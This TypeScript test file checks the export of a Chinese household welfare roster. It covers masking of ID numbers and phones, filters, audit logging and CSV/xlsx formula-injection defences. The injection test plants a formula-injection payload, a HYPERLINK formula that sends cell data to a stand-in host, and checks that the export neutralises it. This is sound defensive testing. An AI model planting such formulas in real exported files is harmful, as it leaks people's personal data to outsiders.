import { createWriteStream, mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ALL, divisionScope, type DataScope } from '../../auth/scope.ts';
import { selectRows } from '../../db/sql.ts';
import type { Store } from '../../db/store.ts';
import { describeStores, openTestStore } from '../../../test/support/stores.ts';
import { FORMULA_REASON } from '../import/roster-rows.ts';
import { openSource } from '../import/source.ts';
import {
  HUANGPU_COMMITTEE,
  YANGPU_OTHER_STREET_COMMITTEE,
  importRoster,
  sampleRoster,
  writeXlsx,
} from '../import/roster.fixtures.ts';
import { exportHouseholds, type HouseholdExportQuery } from './export.service.ts';

const dir = mkdtempSync(join(tmpdir(), 'mz-export-test-'));
let fileNo = 0;
const actor = { userId: 'tester', divisionCode: '310110', reason: '单元测试导出' };
const TODAY = '2026-11-22';

async function exportToFile(
  store: Store,
  query: HouseholdExportQuery,
  options: { scope?: DataScope; unmask?: boolean; pageSize?: number; format?: 'xlsx' | 'csv' } = {},
) {
  const path = join(dir, `e${fileNo++}.${options.format ?? 'xlsx'}`);
  const out = createWriteStream(path);
  const finished = new Promise<void>((resolve, reject) =>
    out.on('finish', () => resolve()).on('error', reject),
  );
  const result = await exportHouseholds(
    store,
    query,
    {
      scope: options.scope ?? ALL,
      unmask: options.unmask ?? false,
      actor,
      pageSize: options.pageSize ?? 3,
      format: options.format ?? 'xlsx',
    },
    out,
  );
  await finished;
  return { path, result };
}

async function readRows(path: string): Promise<string[][]> {
  const source = await openSource(path);
  const rows: string[][] = [];
  for await (const row of source.rows())
    rows.push(row.cells.map((c) => (c === null ? '' : String(c as string))));
  return rows;
}

/** Everything the roster carries, per person, in a form two stores can be compared by. */
async function snapshot(store: Store): Promise<unknown[]> {
  return selectRows(
    store.db,
    sql`select p.id_number, p.name, p.name_initials, p.sex, p.birth_date::text as birth, p.phone,
               p.hukou_division_code, p.residence_division_code, p.disability_category, p.disability_grade,
               p.employed, p.categories, p.wage_fen::text as wage, p.pension_fen::text as pension,
               p.other_income_fen::text as other, m.relation_code, m.valid_from::text as valid_from, m.seq,
               h.household_no, h.committee_code, h.street_code, h.address,
               h.monetary_assets_fen::text as assets, h.vehicles, h.homes,
               h.per_capita_floor_area_below_average as below
        from persons p
        join household_members m on m.district_code = p.district_code and m.person_id = p.id and m.valid_to is null
        join households h on h.district_code = m.district_code and h.id = m.household_id
        order by p.id_number`,
  );
}

describeStores('roster export', (ctx) => {
  let empty: { store: Store; dispose: () => Promise<void> };
  beforeAll(async () => {
    const rows = [
      ...sampleRoster(5, undefined, 'EXA', 0),
      ...sampleRoster(2, YANGPU_OTHER_STREET_COMMITTEE, 'EXB', 100),
      ...sampleRoster(1, HUANGPU_COMMITTEE, 'EXC', 200),
    ];
    rows[0]!.disabilityCategory = '肢体残疾';
    rows[0]!.disabilityGrade = '二级';
    rows[0]!.categories = '特困、传统民政对象';
    rows[0]!.otherIncome = '0.07';
    rows[2]!.phone = '';
    const path = join(dir, 'source.xlsx');
    await writeXlsx(path, rows);
    const report = await importRoster(ctx.store, path, { scope: ALL, actor, today: TODAY });
    expect(report.errors).toEqual([]);
    empty = await openTestStore(ctx.kind);
  });
  afterAll(() => empty.dispose());

  it('round trip: an unmasked export re-imports into an empty store with the same data', async () => {
    const { path, result } = await exportToFile(ctx.store, {}, { unmask: true });
    expect(result).toEqual({ households: 8, persons: await countPersons(ctx.store), masked: false });
    const report = await importRoster(empty.store, path, { scope: ALL, actor, today: TODAY });
    expect(report.errors).toEqual([]);
    expect(await snapshot(empty.store)).toEqual(await snapshot(ctx.store));
  });

  it('masks 身份证号 and phones unless unmasked; a masked export cannot be re-imported', async () => {
    const { path, result } = await exportToFile(ctx.store, { householdNos: ['EXA-0000000'] });
    expect(result.masked).toBe(true);
    const rows = await readRows(path);
    expect(rows[0]?.slice(0, 4)).toEqual(['户编号', '与户主关系', '姓名', '身份证号']);
    const [head] = await selectRows<{ id_number: string; phone: string }>(
      ctx.store.db,
      sql`select p.id_number, p.phone from persons p join household_members m on m.person_id = p.id
          join households h on h.id = m.household_id where h.household_no = 'EXA-0000000' and m.relation_code = '02'`,
    );
    expect(rows[1]?.[3]).toBe(`${head!.id_number.slice(0, 6)}********${head!.id_number.slice(-4)}`);
    expect(rows[1]?.[9]).toBe(`${head!.phone.slice(0, 3)}****${head!.phone.slice(-4)}`);
    expect(rows.flat().join('|')).not.toContain(head!.id_number);
    expect(rows[1]?.slice(10, 14)).toEqual(['肢体残疾', '二级', '是', '特困供养人员、传统民政对象']);
    const again = await importRoster(empty.store, path, {
      scope: ALL,
      actor,
      dryRun: true,
      today: TODAY,
    });
    expect(again.ok).toBe(false);
    expect(again.errors).toContainEqual({
      row: 2,
      column: '身份证号',
      value: rows[1]?.[3],
      reason: '身份证号已脱敏（含*）：请使用含完整号码的导出文件（导出时选择显示完整号码）',
    });
  });

  it('filters by division, name or initials, household numbers, and the user’s scope', async () => {
    const count = async (query: HouseholdExportQuery, scope: DataScope = ALL) =>
      (await exportToFile(ctx.store, query, { scope })).result.households;
    expect(await count({ divisionCode: '310110' })).toBe(7);
    expect(await count({ divisionCode: '310110006' })).toBe(2);
    expect(await count({ householdNos: ['EXA-0000001', 'EXC-0000000', 'NOPE'] })).toBe(2);
    expect(await count({}, divisionScope('310101'))).toBe(1);
    expect(await count({ divisionCode: '310110' }, divisionScope('310101'))).toBe(0);
    const [person] = await selectRows<{ name: string; name_initials: string }>(
      ctx.store.db,
      sql`select name, name_initials from persons order by id_number limit 1`,
    );
    const byName = await count({ name: person!.name });
    expect(byName).toBeGreaterThan(0);
    expect(await count({ name: person!.name_initials.toUpperCase() })).toBeGreaterThanOrEqual(byName);
  });

  it('writes no cell a spreadsheet would run, in xlsx and CSV; re-read, the values come back', async () => {
    // Values the import refuses, stored by some other path: the export must still not arm them.
    const formula = '=HYPERLINK("http://x.example/?d="&A2,"点我")';
    await ctx.store.db.execute(
      sql`update households set address = ${formula} where household_no = 'EXA-0000004'`,
    );
    await ctx.store.db.execute(sql`update persons set name = '@SUM(1)', phone = '+86 13800000000'
      where id in (select person_id from household_members m join households h on h.id = m.household_id
                   where h.household_no = 'EXA-0000004' and m.relation_code = '02')`);
    const query = { householdNos: ['EXA-0000004'] };
    const xlsx = await exportToFile(ctx.store, query, { unmask: true });
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(xlsx.path);
    const head = book.worksheets[0]!.getRow(2);
    expect([head.getCell(3).value, head.getCell(9).value, head.getCell(10).value]).toEqual([
      "'@SUM(1)",
      `'${formula}`,
      "'+86 13800000000",
    ]);
    book.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)),
    );
    const csv = await exportToFile(ctx.store, query, { unmask: true, format: 'csv' });
    const text = readFileSync(csv.path, 'utf8');
    expect(text.startsWith('\uFEFF户编号,')).toBe(true);
    expect(text).toContain(`,'@SUM(1),`);
    expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(text).toContain(`,'+86 13800000000,`);
    const fields = text.split(/[\r\n]+/).flatMap((line) => line.split(','));
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
    // Our import reads the apostrophe as the export's: the phone comes back whole, the formulas are refused.
    for (const path of [xlsx.path, csv.path]) {
      const report = await importRoster(empty.store, path, {
        scope: ALL,
        actor,
        dryRun: true,
        today: TODAY,
      });
      // The address is on each member's row (three), the name on the head's.
      expect(report.errors.map((e) => [e.column, e.reason])).toEqual([
        ['姓名', FORMULA_REASON],
        ['地址', FORMULA_REASON],
        ['地址', FORMULA_REASON],
        ['地址', FORMULA_REASON],
      ]);
    }
  });

  it('records the export in the audit log', async () => {
    const before = await auditCount(ctx.store);
    await exportToFile(ctx.store, { divisionCode: '310101' }, { unmask: true });
    expect(await auditCount(ctx.store)).toBe(before + 1);
  });
});

async function countPersons(store: Store): Promise<number> {
  const [row] = await selectRows<{ n: number }>(store.db, sql`select count(*)::int as n from persons`);
  return row!.n;
}

async function auditCount(store: Store): Promise<number> {
  const [row] = await selectRows<{ n: number }>(
    store.db,
    sql`select count(*)::int as n from audit_log where action = 'registry.export'`,
  );
  return row!.n;
}
